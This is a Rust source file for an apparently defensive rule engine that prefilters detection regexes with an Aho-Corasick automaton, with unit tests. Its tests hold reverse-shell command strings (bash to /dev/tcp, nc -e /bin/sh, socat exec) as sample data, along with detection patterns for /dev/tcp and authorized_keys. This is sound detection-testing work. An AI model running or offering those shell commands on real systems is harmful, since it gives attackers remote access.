//! The literal prefilter over all rules' regexes: for each field that regexes test, one
//! Aho-Corasick automaton holds the literals those regexes need (every match of a regex
//! starts or ends with one of its literals, as `regex-syntax` extracts them). An event's
//! field is scanned once, for every rule at a time; a regex none of whose literals is in
//! the value is known false without running it. A regex with no usable literal (it can
//! match an empty or arbitrary start and end) always runs.

use std::collections::HashMap;
use std::sync::Arc;

use aho_corasick::AhoCorasick;
use regex_syntax::hir::literal::{ExtractKind, Extractor, Seq};

use super::compile::{Kind, Rule};
use super::condition::{Cond, Field, FieldCond, Matcher};

/// A compiled regex and the literals one of which every match contains (empty: none).
#[derive(Debug, Clone)]
pub struct Pattern {
    pub re: regex::Regex,
    pub literals: Vec<Vec<u8>>,
}

impl Pattern {
    pub fn new(re: regex::Regex) -> Pattern {
        let literals = required_literals(re.as_str());
        Pattern { re, literals }
    }
}

/// Literals every match starts with, or ends with, whichever set is more selective;
/// empty when there is no such finite set of non-empty literals.
pub fn required_literals(pattern: &str) -> Vec<Vec<u8>> {
    let Ok(hir) = regex_syntax::parse(pattern) else {
        return Vec::new();
    };
    let usable = |seq: Seq| -> Option<Vec<Vec<u8>>> {
        let lits = seq.literals()?;
        if lits.is_empty() || lits.iter().any(|l| l.as_bytes().is_empty()) {
            return None;
        }
        let all: Vec<Vec<u8>> = lits.iter().map(|l| l.as_bytes().to_vec()).collect();
        // "Contains one of them" needs only the literals no other one is inside of.
        let minimal = all
            .iter()
            .filter(|l| {
                !all.iter()
                    .any(|o| o.len() < l.len() && l.windows(o.len()).any(|w| w == &o[..]))
            })
            .cloned()
            .collect::<Vec<_>>();
        let mut minimal = minimal;
        minimal.dedup();
        Some(minimal)
    };
    let mut best: Option<Vec<Vec<u8>>> = None;
    for kind in [ExtractKind::Prefix, ExtractKind::Suffix] {
        let mut ex = Extractor::new();
        ex.kind(kind).limit_total(64);
        if let Some(lits) = usable(ex.extract(&hir)) {
            let shortest = |l: &Vec<Vec<u8>>| l.iter().map(Vec::len).min().unwrap_or(0);
            if best.as_ref().is_none_or(|b| shortest(&lits) > shortest(b)) {
                best = Some(lits);
            }
        }
    }
    best.unwrap_or_default()
}

/// The automata of one rule set, and which literals each of its patterns needs.
#[derive(Debug, Default)]
pub struct Prefilter {
    /// Per field: the field and the automaton over its literals.
    fields: Vec<(Field, AhoCorasick)>,
    /// Pattern (by address: rules are shared and never move) → field index and the ids
    /// of its literals in that field's automaton.
    patterns: HashMap<usize, (usize, Vec<u32>)>,
}

/// While building: a field, its literals, and each pattern's literal ids.
type FieldLiterals = (Field, Vec<Vec<u8>>, Vec<(usize, Vec<u32>)>);

fn key(p: &Pattern) -> usize {
    p as *const Pattern as usize
}

fn walk<'a>(c: &'a Cond, out: &mut Vec<&'a Pattern>) {
    match c {
        Cond::Regex(p) => out.push(p),
        Cond::Not(c) => walk(c, out),
        Cond::All(cs) => cs.iter().for_each(|c| walk(c, out)),
        _ => {}
    }
}

fn matchers(rule: &Rule) -> Vec<&Matcher> {
    let mut m = vec![&rule.matcher];
    if let Kind::Sequence { steps, .. } = &rule.kind {
        m.extend(steps.iter().map(|s| &s.matcher));
    }
    m
}

impl Prefilter {
    pub fn build(rules: &[Arc<Rule>]) -> Prefilter {
        // Field → its literals (deduplicated) and the patterns that use them.
        let mut by_field: Vec<FieldLiterals> = Vec::new();
        for rule in rules.iter().filter(|r| r.enabled) {
            for m in matchers(rule) {
                let conds: Vec<&FieldCond> = m.all.iter().chain(m.any.iter().flatten()).collect();
                for fc in conds {
                    let mut pats = Vec::new();
                    walk(&fc.cond, &mut pats);
                    for p in pats.into_iter().filter(|p| !p.literals.is_empty()) {
                        let slot = match by_field.iter().position(|(f, _, _)| *f == fc.field) {
                            Some(i) => i,
                            None => {
                                by_field.push((fc.field.clone(), Vec::new(), Vec::new()));
                                by_field.len() - 1
                            }
                        };
                        let (_, lits, users) = &mut by_field[slot];
                        let ids = p
                            .literals
                            .iter()
                            .map(|l| match lits.iter().position(|x| x == l) {
                                Some(i) => i as u32,
                                None => {
                                    lits.push(l.clone());
                                    (lits.len() - 1) as u32
                                }
                            })
                            .collect();
                        users.push((key(p), ids));
                    }
                }
            }
        }
        let mut out = Prefilter::default();
        for (field, lits, users) in by_field {
            let Ok(ac) = AhoCorasick::new(&lits) else {
                continue; // Too large to build: those regexes simply always run.
            };
            let idx = out.fields.len();
            out.fields.push((field, ac));
            for (k, ids) in users {
                out.patterns.insert(k, (idx, ids));
            }
        }
        out
    }

    /// How many fields have an automaton (for tests and `rules list`).
    pub fn fields(&self) -> usize {
        self.fields.len()
    }
}

/// What one event's scans found: per field, which literals occur in its value.
#[derive(Debug, Default)]
pub struct Scan {
    found: Vec<Option<Vec<u64>>>,
}

impl Scan {
    /// Forgets the previous event.
    pub fn reset(&mut self) {
        self.found.iter_mut().for_each(|f| *f = None);
    }
}

/// The prefilter and this event's scan, handed to condition checks.
pub struct Check<'a> {
    pub pre: &'a Prefilter,
    pub scan: &'a mut Scan,
}

impl Check<'_> {
    /// Whether `p` can match `value`: false only when none of its literals occurs.
    pub fn may_match(&mut self, p: &Pattern, value: &str) -> bool {
        let Some((field, ids)) = self.pre.patterns.get(&key(p)) else {
            return true;
        };
        if self.scan.found.len() < self.pre.fields.len() {
            self.scan.found.resize(self.pre.fields.len(), None);
        }
        let ac = &self.pre.fields[*field].1;
        let found = self.scan.found[*field].get_or_insert_with(|| {
            let mut bits = vec![0u64; ac.patterns_len().div_ceil(64)];
            for m in ac.find_overlapping_iter(value) {
                let i = m.pattern().as_usize();
                bits[i / 64] |= 1 << (i % 64);
            }
            bits
        });
        ids.iter()
            .any(|&i| found[i as usize / 64] & (1 << (i % 64)) != 0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lits(p: &str) -> Vec<String> {
        required_literals(p)
            .into_iter()
            .map(|l| String::from_utf8(l).unwrap())
            .collect()
    }

    #[test]
    fn literals_every_match_needs() {
        // `/var/tmp/` contains `/tmp/`: looking for `/tmp/` is enough.
        assert_eq!(lits("^/(tmp|var/tmp|dev/shm)/"), ["/tmp/", "/dev/shm/"]);
        assert_eq!(lits("/dev/(tcp|udp)/"), ["/dev/tcp/", "/dev/udp/"]);
        assert_eq!(lits("/authorized_keys2?$"), ["/authorized_keys"]);
        assert_eq!(lits("(?i)^ab$"), ["AB", "Ab", "aB", "ab"]);
        // Nothing usable: any start and end.
        assert!(lits(".*").is_empty());
        assert!(lits("(^|[/ ])x?").is_empty());
        assert!(lits("a|").is_empty());
    }

    #[test]
    fn a_regex_without_its_literal_is_known_false() {
        use crate::engine::compile::compile_yaml;
        let rule = compile_yaml(
            "id: r\ntitle: R\nseverity: low\nmatch:\n  type: PROCESS_STARTED\n  any:\n    - { path: { regex: '^/(tmp|dev/shm)/' } }\n    - { path: { regex: '.+' } }\n",
            std::path::Path::new("r.yaml"),
        )
        .unwrap();
        let rules = vec![Arc::new(rule)];
        let pre = Prefilter::build(&rules);
        assert_eq!(pre.fields(), 1);
        let pats: Vec<&Pattern> = rules[0]
            .matcher
            .any
            .iter()
            .flatten()
            .flat_map(|fc| {
                let mut v = Vec::new();
                walk(&fc.cond, &mut v);
                v
            })
            .collect();
        let mut scan = Scan::default();
        let mut c = Check {
            pre: &pre,
            scan: &mut scan,
        };
        assert!(!c.may_match(pats[0], "/usr/bin/bash"));
        assert!(
            c.may_match(pats[1], "/usr/bin/bash"),
            "no literal: always runs"
        );
        c.scan.reset();
        assert!(c.may_match(pats[0], "/dev/shm/x"));
    }

    #[test]
    fn the_prefilter_never_hides_a_match_in_the_default_rules() {
        let rules = crate::engine::load::defaults().ruleset();
        let pre = Prefilter::build(rules.rules());
        let mut pats = Vec::new();
        for r in rules.rules() {
            for m in matchers(r) {
                for fc in m.all.iter().chain(m.any.iter().flatten()) {
                    walk(&fc.cond, &mut pats);
                }
            }
        }
        assert!(pats.len() >= 5, "{}", pats.len());
        // Haystacks that match, nearly match, and do not: each regex's own literals in
        // and out of place, and real values.
        let mut hay: Vec<String> = vec![
            "/tmp/.x/x".into(),
            "/var/tmp/a".into(),
            "/usr/bin/bash".into(),
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1".into(),
            "nc 203.0.113.9 4444 -e /bin/sh".into(),
            "socat tcp:1.2.3.4:1 exec:/bin/bash".into(),
            "/root/.ssh/authorized_keys2".into(),
            "/etc/cron.d/backup".into(),
            "/etc/crontab".into(),
            "/etc/sudoers.d/x".into(),
            String::new(),
        ];
        for p in &pats {
            for l in &p.literals {
                let l = String::from_utf8_lossy(l).into_owned();
                hay.push(l.clone());
                hay.push(format!("x{l}y"));
                hay.push(l.to_uppercase());
            }
        }
        for p in &pats {
            for h in &hay {
                let mut scan = Scan::default();
                let mut c = Check {
                    pre: &pre,
                    scan: &mut scan,
                };
                if p.re.is_match(h) {
                    assert!(c.may_match(p, h), "{} on {h:?}", p.re.as_str());
                }
            }
        }
    }
}
